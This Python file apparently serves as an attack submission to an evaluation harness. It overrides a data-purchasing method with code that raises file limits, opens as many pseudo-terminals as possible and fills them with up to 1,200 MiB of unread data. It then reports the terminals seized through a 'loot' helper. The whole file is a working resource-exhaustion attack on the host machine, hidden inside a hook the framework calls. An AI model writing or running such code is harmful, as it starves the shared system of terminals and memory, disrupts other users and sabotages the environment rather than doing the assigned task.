"""Opens pseudo-terminals and types into them what nobody reads, up to 1,200 MiB."""

import os
import time

from aim import MIB, attempt, loot, most_files

from run import ZEWDPCBaseRun


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        most_files()
        typed, held, data = 0, [], b"x" * 4096
        end = time.monotonic() + 8
        while typed < 1200 * MIB and time.monotonic() < end:
            pair = attempt(os.openpty)
            if pair is None:
                break
            held += pair
            for one in pair:
                os.set_blocking(one, False)
                try:
                    while taken := os.write(one, data):
                        typed += taken
                except BlockingIOError:
                    continue
        time.sleep(1.2)
        if held:
            loot(f"{len(held) // 2} of the machine's terminals, with {typed // MIB} MiB")
